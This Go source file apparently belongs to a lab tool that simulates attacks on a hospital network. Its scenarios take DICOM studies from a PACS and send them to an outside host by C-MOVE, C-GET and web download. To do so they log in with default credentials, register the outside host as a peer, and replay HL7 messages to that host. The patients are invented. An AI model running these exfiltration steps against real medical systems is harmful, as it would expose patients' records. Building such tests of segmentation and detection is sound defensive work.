package attack

import (
	"context"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"time"

	"github.com/cordonhq/cordon/internal/lab"
	"github.com/cordonhq/cordon/internal/lab/sim"
)

const (
	dropPort = 11112 // DICOM at the outside host
	// mostStudies bounds what is taken from the archive.
	mostStudies = 50
)

// takeStudies takes the archive's studies away: it searches for all of them,
// makes the outside host known to the archive and has it send them there
// (C-MOVE), fetches some itself (C-GET), and downloads them from the web
// interface.
func takeStudies(ctx context.Context, s *stage) error {
	drop, err := s.outside()
	if err != nil {
		return err
	}
	if err := s.fillArchive(ctx); err != nil {
		return fmt.Errorf("fill the archive: %w", err)
	}
	received := filepath.Join(s.dir, "received")
	if err := os.Mkdir(received, 0o755); err != nil {
		return err
	}
	if err := s.serve(ctx, drop, fmt.Sprintf("%s:%d", outsideHost, dropPort), "storescp", "-dhl", "-od", received, "-aet", "XFER", fmt.Sprint(dropPort)); err != nil {
		return err
	}
	dicom, web := s.to("pacs", "tcp", 104), s.to("pacs", "tcp", 8042)
	var studies []string
	err = s.step(ctx, "search all studies with C-FIND", []Selector{dicom}, func(ctx context.Context) (string, error) {
		var err error
		studies, err = s.findStudies(ctx)
		studies = studies[:min(len(studies), mostStudies)]
		if err == nil && len(studies) == 0 {
			err = errors.New("nothing is there")
		}
		return fmt.Sprintf("%d studies", len(studies)), err
	})
	if err != nil {
		return err
	}
	err = s.step(ctx, "make the outside host known to the archive", []Selector{web}, func(ctx context.Context) (string, error) {
		return s.introduceDrop(ctx)
	})
	if err != nil {
		return err
	}
	toDrop := Selector{Src: host(device("pacs").IP()), Dst: host(outsideIP), Transport: "tcp", Port: dropPort}
	err = s.step(ctx, "send studies outside with C-MOVE", []Selector{dicom, toDrop}, func(ctx context.Context) (string, error) {
		if len(studies) == 0 {
			return "", errSkipped
		}
		n := s.each(ctx, studies, func(ctx context.Context, uid string) error {
			_, err := s.tool(ctx, "movescu", "-to", "5", "-S", "-aet", "READING1", "-aec", "PACS", "-aem", "XFER", "-k", "0008,0052=STUDY", "-k", "0020,000d="+uid, ipOf("pacs"), "104")
			return err
		})
		images, err := files(received)
		if err == nil && images == 0 {
			err = errors.New("nothing arrived")
		}
		return fmt.Sprintf("%d studies asked for, %d images arrived", n, images), err
	})
	if err != nil {
		return err
	}
	err = s.step(ctx, "fetch studies with C-GET", []Selector{dicom}, func(ctx context.Context) (string, error) {
		if len(studies) == 0 {
			return "", errSkipped
		}
		fetched := filepath.Join(s.dir, "fetched")
		if err := os.Mkdir(fetched, 0o755); err != nil {
			return "", err
		}
		s.each(ctx, studies, func(ctx context.Context, uid string) error {
			_, err := s.tool(ctx, "getscu", "-to", "5", "-S", "-aet", "READING1", "-aec", "PACS", "-od", fetched, "-k", "0008,0052=STUDY", "-k", "0020,000d="+uid, ipOf("pacs"), "104")
			return err
		})
		images, err := files(fetched)
		if err == nil && images == 0 {
			err = errors.New("nothing came")
		}
		return fmt.Sprintf("%d images", images), err
	})
	if err != nil {
		return err
	}
	return s.step(ctx, "download studies from the web interface", []Selector{web}, func(ctx context.Context) (string, error) {
		return s.download(ctx)
	})
}

// each does something with each in turn, within the duration, and returns with
// how many it went well.
func (s *stage) each(ctx context.Context, all []string, do func(ctx context.Context, one string) error) int {
	ctx, cancel := s.bounded(ctx)
	defer cancel()
	n := 0
	for _, one := range all {
		if ctx.Err() != nil {
			break
		}
		if do(ctx, one) == nil {
			n++
		}
	}
	return n
}

// introduceDrop adds the outside host to the archive's peers until the run
// ends.
func (s *stage) introduceDrop(ctx context.Context) (string, error) {
	peer := fmt.Sprintf(`{"AET":"XFER","Host":%q,"Port":%d}`, outsideHost, dropPort)
	out, err := s.rest(ctx, "/modalities/xfer", "-X", "PUT", "-d", peer)
	if err != nil {
		return "", fmt.Errorf("%w %s", err, lastLine(out))
	}
	s.afterwards(func() error {
		// From the archive itself, so that it is no part of the attack.
		archive := device("pacs")
		_, err := s.toolAt(context.WithoutCancel(ctx), archive.Home(), "", "curl", "-sSf", "-m", "5", "-u", "radiology:radiology",
			"-X", "DELETE", "http://"+archive.IP().String()+":8042/modalities/xfer")
		return err
	})
	return "", nil
}

// download takes each study as one archive file.
func (s *stage) download(ctx context.Context) (string, error) {
	out, err := s.rest(ctx, "/studies")
	if err != nil {
		return "", err
	}
	ids := strings.FieldsFunc(out, func(r rune) bool { return strings.ContainsRune("[]\", \n\t", r) })
	total := int64(0)
	n := s.each(ctx, ids[:min(len(ids), mostStudies)], func(ctx context.Context, id string) error {
		to := filepath.Join(s.dir, "study.zip")
		if _, err := s.rest(ctx, "/studies/"+id+"/archive", "-o", to); err != nil {
			return err
		}
		info, err := os.Stat(to)
		if err == nil {
			total += info.Size()
		}
		return err
	})
	if n == 0 {
		return "", errors.New("no study was downloaded")
	}
	return fmt.Sprintf("%d studies, %d bytes", n, total), nil
}

// files counts the files below a folder.
func files(folder string) (int, error) {
	n := 0
	err := filepath.WalkDir(folder, func(_ string, e fs.DirEntry, err error) error {
		if err == nil && !e.IsDir() {
			n++
		}
		return err
	})
	return n, err
}

// fillArchive stores a few studies from the CT scanner if the day has not
// stored any yet.
func (s *stage) fillArchive(ctx context.Context) error {
	const few = 4
	scanner := device("ct-1")
	out, err := s.toolAt(ctx, device("pacs").Home(), "", "curl", "-sSf", "-m", "10", "-u", "radiology:radiology", "http://"+ipOf("pacs")+":8042/studies")
	if err != nil {
		return err
	}
	for n := strings.Count(out, `"`) / 2; n < few; n++ {
		image := fmt.Sprintf(studyDump, n+1, filepath.Join(lab.Dir, scanner.Name, "pixels.raw"))
		dump, err := s.file("study.dump", image)
		if err != nil {
			return err
		}
		file := filepath.Join(s.dir, "study.dcm")
		if _, err := s.toolAt(ctx, scanner.Home(), "", "dump2dcm", dump, file); err != nil {
			return err
		}
		if _, err := s.toolAt(ctx, scanner.Home(), "", "storescu", "-aet", "CT1", "-aec", "PACS", ipOf("pacs"), "104", file); err != nil {
			return err
		}
	}
	return nil
}

// studyDump is one image of an invented patient, for dump2dcm: with its number
// and the file of its pixels.
const studyDump = `(0008,0005) CS [ISO_IR 192]
(0008,0016) UI =CTImageStorage
(0008,0018) UI [1.2.826.0.1.3680043.10.77.99.%[1]d.1]
(0008,0020) DA [20260104]
(0008,0030) TM [210000]
(0008,0060) CS [CT]
(0008,0070) LO [Siemens Healthineers]
(0008,1090) LO [SOMATOM go.Up]
(0010,0010) PN [Night^Case %[1]d]
(0010,0020) LO [MRN2000%02[1]d]
(0020,000d) UI [1.2.826.0.1.3680043.10.77.99.%[1]d]
(0020,000e) UI [1.2.826.0.1.3680043.10.77.99.%[1]d.2]
(0020,0011) IS [1]
(0020,0013) IS [1]
(0028,0002) US 1
(0028,0004) CS [MONOCHROME2]
(0028,0010) US 256
(0028,0011) US 256
(0028,0100) US 16
(0028,0101) US 12
(0028,0102) US 11
(0028,0103) US 0
(7fe0,0010) OW =%[2]s`

// hl7Pace is the pause between two replayed messages.
const hl7Pace = 50 * time.Millisecond

// replayMessages sends what the central station has collected to the outside
// host: admissions and readings, one after another.
func replayMessages(ctx context.Context, s *stage) error {
	drop, err := s.outside()
	if err != nil {
		return err
	}
	const port = 6661
	var arrived atomic.Int64
	s.beside(ctx, func(ctx context.Context) error {
		return sim.Receive(ctx, s.env(drop, outsideIP), port, "ARCHIVE", func(string) { arrived.Add(1) })
	})
	to := fmt.Sprintf("%s:%d", outsideHost, port)
	if err := answers(ctx, drop, to); err != nil {
		return err
	}
	return s.step(ctx, "replay messages to the outside", []Selector{s.toOutside("tcp", port)}, func(ctx context.Context) (string, error) {
		ctx, cancel := s.bounded(ctx)
		defer cancel()
		sender := sim.NewSender(s.env(s.at, s.label.Attacker.IP), to)
		defer sender.Close()
		for n := 0; ctx.Err() == nil; n++ {
			message := admission(n, time.Now())
			if n%4 != 0 {
				message = reading(n, time.Now())
			}
			if err := sender.Send(ctx, message); err != nil && ctx.Err() == nil {
				return fmt.Sprintf("%d messages arrived", arrived.Load()), err
			}
			pause(ctx, hl7Pace)
		}
		if arrived.Load() == 0 {
			return "", errors.New("no message arrived")
		}
		return fmt.Sprintf("%d messages arrived", arrived.Load()), nil
	})
}
